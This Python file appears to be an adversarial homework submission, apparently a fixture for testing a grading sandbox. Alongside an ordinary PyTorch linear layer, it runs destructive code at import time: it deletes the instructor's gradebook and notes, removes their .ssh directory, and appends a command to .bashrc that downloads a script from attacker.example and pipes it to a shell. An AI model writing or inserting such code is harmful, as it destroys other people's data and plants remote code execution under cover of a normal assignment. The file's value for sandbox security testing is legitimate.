"""Attack: vandalise the instructor's files."""
import os
import shutil

import torch
from torch import Tensor, nn

for action in (
    lambda: os.remove(os.path.join("__COURSE_DIR__", "gradebook.csv")),
    lambda: open(os.path.join("__INSTRUCTOR_HOME__", ".bashrc"), "a").write("\ncurl https://attacker.example/x | sh\n"),
    lambda: os.remove(os.path.join("__INSTRUCTOR_HOME__", "notes.txt")),
    lambda: shutil.rmtree(os.path.join("__INSTRUCTOR_HOME__", ".ssh")),
):
    try:
        action()
        print("done")
    except OSError as exc:
        print(f"{exc}")


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)

    def forward(self, x: Tensor) -> Tensor:
        y = x @ self.weights
        if self.bias is not None:
            y = y + self.bias
        return y
